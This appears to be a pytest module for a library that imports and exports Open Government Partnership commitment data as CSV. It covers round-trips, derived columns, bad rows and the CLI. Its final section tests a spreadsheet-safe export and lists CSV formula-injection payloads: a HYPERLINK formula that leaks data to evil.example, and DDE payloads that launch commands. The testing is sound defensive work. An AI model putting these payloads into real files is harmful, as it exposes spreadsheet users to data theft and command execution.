"""OGP's 171-column commitment export: read into typed plans, write back, derived columns.

The real sample (558 rows) is read where the tests need it (fixture ``ogp_export_path``).
"""

from __future__ import annotations

import argparse
import csv
import io
import json
import time
from collections.abc import Callable
from pathlib import Path

import attrs
import pytest

import opengov
from _hostile import outcome, write
from opengov.cli.main import main
from opengov.cli.ogp import register
from opengov.errors import LoadError
from opengov.io.ogp import (
    COLUMNS,
    CROSS_ROW_COLUMNS,
    DERIVED_COLUMNS,
    PARTLY_DERIVED_COLUMNS,
    ExportRead,
    derived_outcomes,
    dumps_export,
    export_rows,
    loads_export,
    read_export,
    write_export,
)
from opengov.issues import Severity
from opengov.model import (
    ActionPlan,
    Commitment,
    Completion,
    DidItOpenGovernment,
    ExtraField,
    Flag,
    IRMAssessment,
    Missing,
    PlanCollection,
    Specificity,
)

DERIVED = (*PARTLY_DERIVED_COLUMNS, *DERIVED_COLUMNS)

#: Every row whose derived cell still differs from OGP's, by column (commitment ids). Each is
#: explained in docs/concepts/ogp-derived-columns.md; the rules do not bend to them.
DOCUMENTED = {
    "_Relevant": {"JO0062", "SK0116"},
    "Starred (2015 Only)": {
        "BUE0009",
        *("SK0059", "SK0088", "SK0113", "SK0114", "SK0115", "SK0116", "SK0117", "SK0118"),
        *("SK0119", "SK0130"),
    },
    "Starred (Current Formula) Progress Report": {
        "BUE0009",
        *("SK0059", "SK0088", "SK0113", "SK0114", "SK0115", "SK0116", "SK0117", "SK0118"),
        *("SK0119", "SK0130"),
    },
    "Change In Completion": {"BG0028", "BG0039", "FR0026", "GT0066"},
    "_ChangeCompletion": {
        *("MN0020", "BG0039", "GT0066", "JO0048", "JO0050"),
        *("TN0001", "TN0004", "TN0007", "TN0008"),
    },
    "Starred (Current Formula) End of Term": {"EE0050", "GH0021", "GH0025", "NG0008"},
    "Max star": {"BUE0009", "EE0050", "GH0021", "GH0025", "NG0008", "SK0130"},
    "High Ambition": {"JO0062"},
    "Ambitious and complete, or DIOG": {
        *("NZ0015", "MK0139", "MK0140", "PY0038", "PY0068", "PY0069", "PT0006", "NG0021"),
        "PY0056",
    },
    "Ambitious but not complete": {
        *("PY0052", "JO0062", "MN0025", "MN0026", "MN0043", "MN0045", "NG0008", "NG0030"),
        *("MK0124", "MK0125", "PNG0001"),
    },
    "Complete but not ambitious": {
        *("NZ0015", "MK0139", "MK0140", "PY0038", "PY0068", "PT0006", "NG0021", "PNG0007"),
        *("PY0056", "US0017"),
    },
    "Not complete or ambitious": {
        *("MK0143", "JO0062", "MN0025", "MN0026", "MN0043", "MN0045", "NG0008", "MK0124"),
        *("MK0125", "PNG0001", "US0005"),
    },
    "CHECKSUM": {"MK0143", "PY0052", "PY0069", "NG0030", "PNG0007", "US0005", "US0017"},
    "IRM-Based Score": {
        *("NZ0015", "MK0139", "MK0140", "PY0038", "PY0052", "PY0068", "PY0069", "PT0006"),
        *("JO0062", "MN0025", "MN0026", "MN0043", "MN0045", "NG0008", "NG0021", "NG0030"),
        *("MK0124", "MK0125", "PNG0001", "PNG0007", "PY0056", "US0017"),
    },
    "Binding constraint": {"SK0116"},
}

#: The label / numeric-twin disagreements of the sample (row, twin column).
TWIN_DISAGREEMENTS = {
    (338, "_DIOGCP"),
    (339, "_DIOGATI"),
    (339, "_DIOGCP"),
    *((row, "_DIOGPA") for row in range(500, 509)),
}


def records(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline="")))


def serialise(rows: list[list[str]]) -> str:
    """OGP's own CSV dialect: CRLF between records, minimal quoting, no final line break."""
    buffer = io.StringIO()
    csv.writer(buffer, lineterminator="\r\n").writerows(rows)
    return buffer.getvalue()[:-2]


@pytest.fixture(scope="module")
def sample_text(ogp_export_path: Path) -> str:
    return ogp_export_path.read_bytes().decode("utf-8")


@pytest.fixture(scope="module")
def sample(ogp_export_path: Path) -> ExportRead:
    return read_export(ogp_export_path)


# --- reading ------------------------------------------------------------------------------------


def test_the_sample_reads_into_plans(sample: ExportRead) -> None:
    assert sample.rows == 558
    assert sample.commitments == 558
    assert sample.errors == []
    assert len(sample.plans) == 214
    assert len({plan.country for plan in sample.plans}) == 69  # ISO 3166-1 alpha-2 codes
    assert len({kept_code(plan) for plan in sample.plans}) == 75  # OGP's own member codes
    assert isinstance(sample.collection, PlanCollection)


def kept_code(plan: ActionPlan) -> str:
    """OGP's own code of a plan's member, as read from the export."""
    return next((e.value for e in plan.extra if e.name == "Code"), plan.country)


def test_countries_are_iso_alpha_2_with_ogp_codes_kept(
    sample: ExportRead, france: ActionPlan
) -> None:
    """National members (alpha-3 in the export) and local ones (alpha-2 and two letters) get
    their country's ISO 3166-1 alpha-2 code; OGP's code is kept beside it. A code that is no
    assigned ISO code (Kosovo's XKX) stays as it is."""
    codes = {(plan.member, plan.country, kept_code(plan)) for plan in sample.plans}
    assert ("France", "FR", "FRA") in codes
    assert ("United Kingdom", "GB", "GBR") in codes
    assert ("Scotland, United Kingdom", "GB", "GBSC") in codes
    assert ("Buenos Aires, Argentina", "AR", "ARBA") in codes
    assert ("Kosovo", "XKX", "XKX") in codes
    assert all(len(plan.country) == 2 for plan in sample.plans if plan.member != "Kosovo")
    kosovo = next(plan for plan in sample.plans if plan.member == "Kosovo")
    assert "Code" not in {e.name for e in kosovo.extra}, "kept only where it differs"
    assert france.country == "FR", "the bundled plan follows the same convention"


def test_the_exported_code_follows_the_country(sample: ExportRead, france: ActionPlan) -> None:
    """Exported, a plan's code is OGP's kept one while it still names the country, else the
    alpha-3 code of the country (the bundled plan's FR is written FRA, as OGP writes it)."""

    def code_cell(plan: ActionPlan) -> str:
        return export_rows(plan)[1][COLUMNS.index("Code")]

    assert code_cell(france) == "FRA"
    scotland = next(p for p in sample.plans if p.member == "Scotland, United Kingdom")
    assert code_cell(scotland) == "GBSC"
    moved = attrs.evolve(scotland, country="IE")
    assert code_cell(moved) == "IRL", "a stale kept code is not written"
    assert code_cell(attrs.evolve(scotland, country="XKX", extra=[])) == "XKX"


def test_plan_and_commitment_fields(sample: ExportRead) -> None:
    plan = sample.collection.plan("AP_FRA01")
    assert (plan.country, plan.member, plan.number) == ("FR", "France", 1)
    assert plan.period is not None and plan.period.iso() == "2015/2017"
    assert {e.name: e.value for e in plan.extra} == {
        "Code": "FRA",
        "Region": "Europe",
        "National Or Local": "National",
        "Action Plan Duration (Years)": "2",
    }
    fr26 = next(c for c in plan.commitments if c.id == "AP_FRA01/FR0026")
    assert fr26.reference == "23"
    assert fr26.title.startswith("Instill a Greater Sense of Responsibility")
    assert fr26.short_title == "Protect Against Conflicts of Interest"
    assert "Conflicts Of Interest" in fr26.themes
    assert "Right To Information" not in fr26.themes
    lead = plan.organisation(fr26.lead_organisations[0])
    assert lead.name == "Ministry for Decentralization and the Civil Service"
    assert fr26.irm is not None
    assert fr26.irm.specificity is Specificity.HIGH
    assert fr26.irm.completion_end_of_term is Completion.COMPLETE
    extra = {e.name: e.value for e in fr26.extra}
    assert extra["id"] and extra["URL"].endswith("/commitments/fr0026")
    assert set(CROSS_ROW_COLUMNS) <= set(extra), "curated columns are kept as inputs"
    assert not set(DERIVED_COLUMNS) & set(extra), "derived columns are not stored"


def test_text_is_kept_verbatim(sample: ExportRead) -> None:
    armenia = sample.collection.plan("AP_ARM02")
    names = [org.name for org in armenia.organisations]
    assert "Ministry of Justice  \n" in names and "Ministry of Justice" in names
    assert len({org.id for org in armenia.organisations}) == len(names)
    references = {c.reference for plan in sample.plans for c in plan.commitments}
    assert {"1.1000000000000001", "10.130000000000001", "2.3.2.A", "SC17"} <= references


def test_missing_data_states_are_their_own(sample: ExportRead) -> None:
    assessments = [c.irm for plan in sample.plans for c in plan.commitments if c.irm]
    midterm = {a.completion_midterm for a in assessments}
    assert {Completion.NO_DATA, Completion.NOT_REVIEWED, Completion.NOT_APPLICABLE} <= midterm
    years = {a.progress_report_year for a in assessments}
    assert {Missing.NO_DATA, Missing.NOT_REVIEWED} <= years
    per_value = {a.diog_public_accountability for a in assessments}
    assert DidItOpenGovernment.NOT_APPLICABLE in per_value


def test_label_and_twin_disagreements_are_warnings(sample: ExportRead) -> None:
    twins = [w for w in sample.warnings if w.code == "twin"]
    assert {(w.row, w.column) for w in twins} == TWIN_DISAGREEMENTS
    jo50 = next(w for w in twins if (w.row, w.column) == (339, "_DIOGATI"))
    assert jo50.commitment == "JO0050" and jo50.value == "2"
    assert "Not Applicable" in str(jo50) and "row 339" in str(jo50)
    # the label stays typed, the twin's own value is kept in extra
    commitment = sample.collection.plan("AP_JOR03").commitments[-1]
    assert commitment.id == "AP_JOR03/JO0050"
    assert commitment.irm is not None
    assert commitment.irm.diog_access_to_information is DidItOpenGovernment.NOT_APPLICABLE
    assert {e.name: e.value for e in commitment.extra}["_DIOGATI"] == "2"
    (odd,) = [w for w in sample.warnings if w.code == "label"]
    assert (odd.row, odd.column, odd.value) == (92, "Verifiable", "1")


# --- writing back -------------------------------------------------------------------------------


def test_base_columns_round_trip(sample: ExportRead, sample_text: str) -> None:
    """Every base column of every row comes back identical, twins and their quirks included."""
    original = records(sample_text)
    written = dumps_export(sample.collection)
    again = records(written)
    assert again[0] == original[0] == list(COLUMNS)
    assert len(again) == len(original) == 559
    base = [i for i, column in enumerate(COLUMNS) if column not in DERIVED]
    assert len(base) == 171 - len(DERIVED)
    differences = [
        (number, COLUMNS[i])
        for number, (a, b) in enumerate(zip(original[1:], again[1:], strict=True), start=2)
        for i in base
        if a[i] != b[i]
    ]
    assert differences == []
    # Byte for byte: OGP's dialect reproduces the file, and the written file is that dialect
    # with only derived cells changed.
    assert serialise(original) == sample_text
    patched = [list(row) for row in original]
    derived_index = [COLUMNS.index(column) for column in DERIVED]
    for row, new in zip(patched[1:], again[1:], strict=True):
        for i in derived_index:
            row[i] = new[i]
    assert written == serialise(patched)
    assert not written.endswith("\r\n") and written.count("\r\n") == 558


def test_round_trip_through_every_document_format(sample: ExportRead, tmp_path: Path) -> None:
    direct = dumps_export(sample.collection)
    for name in ("plans.json", "tables/", "plans.zip"):
        opengov.dump(sample.collection, f"{tmp_path}/{name}")
        loaded = opengov.load(f"{tmp_path}/{name}")
        assert isinstance(loaded, PlanCollection)
        assert dumps_export(loaded) == direct, name


def blank_derived(text: str) -> str:
    """A copy of the export with every derived cell emptied (Verifiable and _Relevant only where
    they are derived: specificity scored, OGP value flags filled)."""
    rows = records(text)
    index = {column: i for i, column in enumerate(rows[0])}
    values = [
        index[c]
        for c in (
            "OGP Value Access To Information",
            "OGP Value Civic Participation",
            "OGP Value Public Accountability",
        )
    ]
    for row in rows[1:]:
        for column in DERIVED_COLUMNS:
            row[index[column]] = ""
        if row[index["Specificity"]] != "ND":
            row[index["Verifiable"]] = ""
        if any(row[i] != "ND" for i in values):
            row[index["_Relevant"]] = ""
    return serialise(rows)


def test_derived_columns_are_recomputed_by_the_rules(sample_text: str) -> None:
    blanked = blank_derived(sample_text)
    found = loads_export(blanked)
    assert found.errors == [] and found.commitments == 558
    original = records(sample_text)
    exported = records(dumps_export(found.collection))
    print()
    failures = []
    for column in DERIVED:
        i = COLUMNS.index(column)
        disagree = [
            (number, a[0], a[i], b[i])
            for number, (a, b) in enumerate(zip(original[1:], exported[1:], strict=True), start=2)
            if a[i] != b[i]
        ]
        agree = 558 - len(disagree)
        print(f"{column}: {agree}/558 rows agree ({100 * agree / 558:.1f}%)")
        for number, ident, ogp, ours in disagree:
            print(f"    row {number} {ident}: OGP {ogp!r}, rules {ours!r}")
        if agree / 558 < 0.95:
            failures.append(column)
        assert {ident for _, ident, _, _ in disagree} == DOCUMENTED.get(column, set()), column
    assert failures == []


def test_check_derived_reports_the_documented_rows(ogp_export_path: Path) -> None:
    found = read_export(ogp_export_path, check_derived=True)
    derived = [w for w in found.warnings if w.code == "derived"]
    by_column: dict[str, set[str]] = {}
    for warning in derived:
        by_column.setdefault(warning.column, set()).add(warning.commitment or "")
    assert by_column == DOCUMENTED
    sample = next(w for w in derived if w.commitment == "SK0116" and w.column == "_Relevant")
    assert "OGP wrote '1', the rule gives '0'" in sample.message


def test_derived_outcomes_explain_each_cell(sample: ExportRead) -> None:
    plan = sample.collection.plan("AP_FRA01")
    fr26 = next(c for c in plan.commitments if c.id.endswith("FR0026"))
    assert fr26.irm is not None
    outcomes = derived_outcomes(fr26.irm, 2017)
    assert set(outcomes) == set(DERIVED)
    assert outcomes["Change In Completion"].explanation.startswith("Substantial at mid-term")
    assert outcomes["Binding constraint"].value.value == "starred"


def test_a_single_hand_made_plan_exports(france: ActionPlan, tmp_path: Path) -> None:
    dest = tmp_path / "fr.csv"
    assert write_export(france, dest) == len(france.commitments)
    rows = records(dest.read_bytes().decode("utf-8"))
    assert rows[0] == list(COLUMNS)
    assert len(rows) == len(france.commitments) + 1
    assert all(len(row) == 171 for row in rows)
    first = dict(zip(COLUMNS, rows[1], strict=True))
    assert first["Action Plan ID"] == "fr-2018-2020"
    assert first["Commitment Unique Identifier"] == "c01"
    assert first["Not reviewed"] == "0" and first["Specificity"] == "ND"


def test_rows_keep_the_export_order_or_go_plan_by_plan() -> None:
    def plan(pid: str, numbers: list[int]) -> ActionPlan:
        return ActionPlan(
            id=pid,
            country="X",
            title=pid,
            commitments=[Commitment(id=f"{pid}/c{n}", number=n, title="t") for n in numbers],
        )

    interleaved = [plan("A", [1, 3]), plan("B", [2])]
    ids = [row[0] for row in export_rows(interleaved)[1:]]
    assert ids == ["c1", "c2", "c3"], "unique numbers: the export's order"
    per_plan = [plan("A", [1, 2]), plan("B", [1])]
    ids = [row[0] for row in export_rows(per_plan)[1:]]
    assert ids == ["c1", "c2", "c1"], "numbers repeat across plans: plan by plan"


def test_edited_values_win_over_kept_spellings(sample: ExportRead) -> None:
    """Verbatim spellings in extra are written only while they still say what the field says."""
    source = next(c for p in sample.plans for c in p.commitments if c.id.endswith("/LT0033"))
    assert source.irm is not None and source.irm.verifiable is Flag.YES
    commitment = attrs.evolve(source, irm=attrs.evolve(source.irm))
    plan = ActionPlan(id=commitment.id.split("/")[0], country="LTU", title="t")
    plan.commitments.append(commitment)

    def verifiable_cell() -> str:
        return export_rows(plan)[1][COLUMNS.index("Verifiable")]

    assert verifiable_cell() == "1", "OGP's odd spelling of Yes is kept"
    assert commitment.irm is not None
    commitment.irm.verifiable = Flag.NO
    assert verifiable_cell() == "No", "an edited value is written, not the stale spelling"


# --- bad exports --------------------------------------------------------------------------------


@pytest.fixture(scope="module")
def small(sample_text: str) -> list[list[str]]:
    """The header and the first five rows of the sample."""
    return records(sample_text)[:6]


def edited(rows: list[list[str]], row: int, column: str, value: str) -> str:
    copy = [list(r) for r in rows]
    copy[row - 1][COLUMNS.index(column)] = value
    return serialise(copy)


def test_a_missing_column_is_an_error(small: list[list[str]]) -> None:
    i = COLUMNS.index("Specificity")
    text = serialise([r[:i] + r[i + 1 :] for r in small])
    with pytest.raises(LoadError) as caught:
        loads_export(text, source="bad.csv")
    assert [p.located for p in caught.value.issues] == [
        "row 1, column 'Specificity': missing from the header"
    ]
    assert str(caught.value).startswith("bad.csv: ")


def test_a_missing_derived_column_is_only_a_warning(small: list[list[str]]) -> None:
    i = COLUMNS.index("CHECKSUM")
    found = loads_export(serialise([r[:i] + r[i + 1 :] for r in small]))
    assert found.commitments == 5
    assert any(w.column == "CHECKSUM" and w.code == "column" for w in found.warnings)
    assert records(dumps_export(found.collection))[0] == list(COLUMNS)


def test_an_unknown_label_is_reported_and_the_rest_loads(small: list[list[str]]) -> None:
    found = loads_export(edited(small, 3, "Potential Impact", "Huge"))
    assert found.commitments == 4
    (error,) = found.errors
    assert (error.row, error.column, error.value, error.commitment) == (
        3,
        "Potential Impact",
        "Huge",
        "AL0003",
    )
    assert "unknown label" in str(error) and "Transformative" in str(error)
    assert (error.code, error.severity) == ("unknown-label", Severity.ERROR)
    assert error.located.endswith("(value 'Huge')")
    with pytest.raises(LoadError) as caught:
        loads_export(edited(small, 3, "Potential Impact", "Huge"), strict=True)
    assert caught.value.issues == [error]
    assert caught.value.issues[0].path == "row 3, column 'Potential Impact'"


def test_a_label_spelled_differently_is_read_and_kept(small: list[list[str]]) -> None:
    text = edited(small, 2, "Specificity", "high")
    found = loads_export(text)
    (warning,) = [w for w in found.warnings if w.code == "label"]
    assert (warning.row, warning.column) == (2, "Specificity")
    assert records(dumps_export(found.collection))[1][COLUMNS.index("Specificity")] == "high"


def test_a_twin_that_disagrees_is_a_warning_with_both_values(small: list[list[str]]) -> None:
    found = loads_export(edited(small, 4, "_Potential Impact", "3"))
    (warning,) = found.warnings
    assert (warning.row, warning.column, warning.value, warning.code) == (
        4,
        "_Potential Impact",
        "3",
        "twin",
    )
    assert (
        warning.severity is Severity.WARNING and warning.path == "row 4, column '_Potential Impact'"
    )
    written = records(dumps_export(found.collection))
    assert written[3][COLUMNS.index("_Potential Impact")] == "3"
    assert (
        written[3][COLUMNS.index("Potential Impact")] == small[3][COLUMNS.index("Potential Impact")]
    )


def test_a_truncated_row_is_reported(small: list[list[str]]) -> None:
    rows = [list(r) for r in small]
    rows[2] = rows[2][:40]
    found = loads_export(serialise(rows))
    (error,) = found.errors
    assert (error.row, error.column) == (3, COLUMNS[40])
    assert "truncated" in error.message and "40 cells" in error.message
    assert found.commitments == 4
    rows[2] = [*small[2], "surplus"]
    (error,) = loads_export(serialise(rows)).errors
    assert error.row == 3 and "172 cells" in error.message


def test_other_unreadable_inputs(small: list[list[str]], tmp_path: Path) -> None:
    with pytest.raises(LoadError, match="empty file"):
        loads_export("")
    path = tmp_path / "latin1.csv"
    path.write_bytes("Région\n".encode("latin-1"))
    with pytest.raises(LoadError, match="not UTF-8"):
        read_export(path)
    with pytest.raises(LoadError, match="No such file"):
        read_export(tmp_path / "nope.csv")
    found = loads_export(edited(small, 3, "Report Publication Year (Progress Report)", "soon"))
    assert [(e.row, e.column, e.value) for e in found.errors] == [
        (3, "Report Publication Year (Progress Report)", "soon")
    ]
    duplicate = serialise([*small, small[1]])
    (error,) = loads_export(duplicate).errors
    assert error.row == 7 and "row 2" in error.message
    # Verifiable is the IRM's own input where specificity is ND: an empty cell cannot be read.
    row = next(
        i for i, r in enumerate(small[1:], start=2) if r[COLUMNS.index("Specificity")] == "ND"
    )
    (error,) = loads_export(edited(small, row, "Verifiable", "")).errors
    assert error.column == "Verifiable"


def test_a_plan_column_that_differs_between_rows_is_kept(small: list[list[str]]) -> None:
    # rows 2 and 3 belong to the same plan (AP_ALB01)
    found = loads_export(edited(small, 3, "Region", "Europe "))
    (warning,) = found.warnings
    assert (warning.row, warning.column, warning.code) == (3, "Region", "plan")
    assert records(dumps_export(found.collection))[2][COLUMNS.index("Region")] == "Europe "


def test_unknown_columns_are_kept_in_extra(small: list[list[str]]) -> None:
    rows = [[*r, "note" if i else "Analyst note"] for i, r in enumerate(small)]
    found = loads_export(serialise(rows))
    assert any(w.code == "column" and w.column == "Analyst note" for w in found.warnings)
    first = found.plans[0].commitments[0]
    assert {e.name: e.value for e in first.extra}["Analyst note"] == "note"


# --- performance --------------------------------------------------------------------------------


def test_reading_the_sample_is_fast(ogp_export_path: Path) -> None:
    start = time.perf_counter()
    found = read_export(ogp_export_path)
    seconds = time.perf_counter() - start
    print(f"\nread_export: {found.rows} rows in {seconds * 1000:.0f} ms")
    assert seconds < 1.0


# --- the command line ---------------------------------------------------------------------------


def ogp_cli(argv: list[str]) -> int:
    parser = argparse.ArgumentParser(prog="opengov")
    commands = parser.add_subparsers(dest="command")
    register(commands)
    args = parser.parse_args(argv)
    try:
        code: int = args.run(args)
    except opengov.OpenGovError as exc:  # what opengov.cli.main prints, exit 2
        print(f"opengov: error: {exc}")
        return 2
    return code


def test_cli_import_then_export(
    ogp_export_path: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    document = tmp_path / "plans.json"
    assert ogp_cli(["ogp", "import", str(ogp_export_path), str(document)]) == 0
    err = capsys.readouterr().err
    assert "214 plans, 558 commitments" in err
    assert "row 339 (JO0050), column '_DIOGATI'" in err
    data = json.loads(document.read_text(encoding="utf-8"))
    assert data["kind"] == "plan_collection" and len(data["plans"]) == 214
    back = tmp_path / "back.csv"
    assert ogp_cli(["ogp", "export", str(document), str(back)]) == 0
    assert "558 rows" in capsys.readouterr().err
    assert back.read_bytes().decode("utf-8") == dumps_export(
        read_export(ogp_export_path).collection
    )
    # an OGP export is a valid SOURCE too, and so is a bundled dataset (a single plan)
    assert ogp_cli(["ogp", "export", str(ogp_export_path), str(tmp_path / "again.csv")]) == 0
    assert ogp_cli(["ogp", "export", "fr-2018-2020", str(tmp_path / "fr.csv")]) == 0


def test_cli_reports_bad_rows_and_never_a_traceback(
    small: list[list[str]], tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    bad = tmp_path / "bad.csv"
    bad.write_text(edited(small, 3, "Potential Impact", "Huge"), encoding="utf-8", newline="")
    dest = tmp_path / "out.json"
    assert ogp_cli(["ogp", "import", str(bad), str(dest)]) == 1
    err = capsys.readouterr().err
    assert f"{bad}: row 3 (AL0003), column 'Potential Impact': unknown label" in err
    assert "ND, NR, NA) (value 'Huge')\n" in err
    assert "left out" in err and dest.exists()
    strict = tmp_path / "strict.json"
    assert ogp_cli(["ogp", "import", str(bad), str(strict), "--strict"]) == 2
    assert "row 3, column 'Potential Impact'" in capsys.readouterr().out
    assert not strict.exists()
    missing = tmp_path / "missing.csv"
    missing.write_text(serialise([r[:100] for r in small]), encoding="utf-8")
    assert ogp_cli(["ogp", "import", str(missing), str(dest)]) == 2
    assert "row 1, column 'Specificity': missing from the header" in capsys.readouterr().out
    assert ogp_cli(["ogp", "import", str(tmp_path / "nope.csv"), str(dest)]) == 2
    assert "no such file" in capsys.readouterr().out
    assert ogp_cli(["ogp", "import", str(bad), str(tmp_path / "out.xyz")]) == 2
    assert "cannot tell the format" in capsys.readouterr().out
    assert ogp_cli(["ogp", "export", str(tmp_path / "nope.json"), str(tmp_path / "x.csv")]) == 2
    assert ogp_cli(["ogp"]) == 2


def test_cli_check_prints_agreement_per_column(
    ogp_export_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    assert ogp_cli(["ogp", "check", str(ogp_export_path)]) == 0
    out = capsys.readouterr().out
    assert "IRM-Based Score: 536/558 rows agree (96.1%)" in out
    assert ogp_cli(["ogp", "check", str(ogp_export_path), "--rows"]) == 0
    rows = [line for line in capsys.readouterr().out.splitlines() if line.startswith("  ")]
    shown = "  row 14 (BUE0009), column 'Max star': OGP wrote '0', the rule gives 'ND' ("
    assert any(line.startswith(shown) for line in rows), rows[:5]
    assert "Raw Completion: 558/558 rows agree (100.0%)" in out


def test_cli_through_the_main_handler_if_wired(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """The ``ogp`` command is part of ``opengov``; its errors print without a traceback."""
    from opengov.cli import main as cli_main

    code = cli_main.main(["ogp", "import", str(tmp_path / "nope.csv"), str(tmp_path / "x.json")])
    err = capsys.readouterr().err
    assert code == 2
    assert "no such file" in err and "Traceback" not in err


def test_write_export_accepts_only_plans(tmp_path: Path) -> None:
    with pytest.raises(TypeError, match="action plans or a plan collection"):
        write_export([IRMAssessment()], tmp_path / "x.csv")  # type: ignore[list-item]


# --- hostile input -----------------------------------------------------------------------------


def _ogp_rows(path: Path, count: int = 30) -> list[list[str]]:
    with path.open(encoding="utf-8-sig", newline="") as handle:
        return [row for _, row in zip(range(count + 1), csv.reader(handle), strict=False)]


def _ogp_bytes(rows: list[list[str]]) -> bytes:
    buffer = io.StringIO()
    csv.writer(buffer, lineterminator="\r\n").writerows(rows)
    return buffer.getvalue().encode("utf-8")


def _set(rows: list[list[str]], column: str, value: str, row: int = 1) -> list[list[str]]:
    rows = [list(r) for r in rows]
    rows[row][rows[0].index(column)] = value
    return rows


OGP_DAMAGE: dict[str, Callable[[list[list[str]]], bytes]] = {
    "invalid UTF-8": lambda rows: _ogp_bytes(rows).replace(b"Open", b"Op\xffen", 1),
    "NUL in a cell": lambda rows: _ogp_bytes(_set(rows, "Commitment Title", "a\x00b")),
    "1 MiB cell": lambda rows: _ogp_bytes(_set(rows, "Full Text", "x" * 2**20)),
    "5000-digit year": lambda rows: _ogp_bytes(_set(rows, "Year Of Submission", "9" * 5000)),
    "superscript-digit year": lambda rows: _ogp_bytes(_set(rows, "Year Of Submission", "²⁰¹⁶")),
    "5000-digit plan number": lambda rows: _ogp_bytes(_set(rows, "Action Plan Number", "9" * 5000)),
    "unbalanced quote at the end": lambda rows: _ogp_bytes(rows) + b'"never closed' * 1000,
    "header only, truncated": lambda rows: _ogp_bytes(rows[:1])[:-300],
    "empty": lambda rows: b"",
    "only a BOM": lambda rows: "\ufeff".encode(),
}


@pytest.mark.hostile
@pytest.mark.parametrize("damage", sorted(OGP_DAMAGE))
def test_ogp_export_hostile(damage: str, tmp_path: Path, ogp_export_path: Path) -> None:
    path = write(tmp_path / "export.csv", OGP_DAMAGE[damage](_ogp_rows(ogp_export_path)))
    for strict in (False, True):
        result = outcome(lambda strict=strict: read_export(path, strict=strict))
        if not isinstance(result, LoadError):
            assert isinstance(result.collection, PlanCollection)
            for error in result.errors:
                assert error.row >= 2 and error.column, error
    if damage == "invalid UTF-8":
        assert isinstance(result, LoadError) and "UTF-8" in str(result)


@pytest.mark.hostile
@pytest.mark.parametrize("variant", ["BOM", "LF", "CR LF"])
def test_ogp_export_bom_and_line_ends(variant: str, tmp_path: Path, ogp_export_path: Path) -> None:
    data = _ogp_bytes(_ogp_rows(ogp_export_path))
    expected = read_export(write(tmp_path / "plain.csv", data))
    if variant == "BOM":
        data = "\ufeff".encode() + data
    elif variant == "LF":
        data = data.replace(b"\r\n", b"\n")
    result = outcome(lambda: read_export(write(tmp_path / "export.csv", data)))
    assert not isinstance(result, LoadError), str(result)
    assert (result.rows, result.commitments, len(result.errors)) == (
        expected.rows,
        expected.commitments,
        len(expected.errors),
    )


#: What a spreadsheet would run: a link that leaks data, a command (DDE), a function, and the
#: leading tab and carriage return a spreadsheet skips before a formula.
FORMULAS = (
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "'=already quoted",
)


def _formula_plan(france: ActionPlan) -> ActionPlan:
    """The France plan with a formula in every kind of cell the export takes from the data."""
    formulas = iter(FORMULAS * 20)
    commitments = [
        attrs.evolve(
            c,
            title=next(formulas),
            description=next(formulas),
            extra=[ExtraField(name="Theme", value=next(formulas))],
        )
        for c in france.commitments
    ]
    organisations = [attrs.evolve(o, name=next(formulas)) for o in france.organisations]
    return attrs.evolve(
        france, member=FORMULAS[0], commitments=commitments, organisations=organisations
    )


@pytest.mark.hostile
def test_spreadsheet_safe_export_runs_no_formula(tmp_path: Path, france: ActionPlan) -> None:
    plan = _formula_plan(france)
    live, safe = tmp_path / "live.csv", tmp_path / "safe.csv"
    write_export(plan, live)
    assert main(["ogp", "export", str(write(tmp_path / "p.json", opengov.dump(plan) or "")),
                 str(safe), "--spreadsheet-safe"]) == 0  # fmt: skip
    data = safe.read_bytes()
    assert data.startswith("\ufeff".encode())
    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))
    assert rows[0] == list(COLUMNS)
    for row in rows[1:]:
        for cell in row:
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell
    live_cells = {cell for row in export_rows(plan)[1:] for cell in row}
    assert set(FORMULAS) <= live_cells, "the payloads reach the cells"
    again = read_export(safe, spreadsheet_safe=True)
    assert again.plans == read_export(live).plans
    assert main(["ogp", "import", str(safe), str(tmp_path / "back.json"),
                 "--spreadsheet-safe"]) == 0  # fmt: skip
    assert opengov.load(tmp_path / "back.json").plans == again.plans
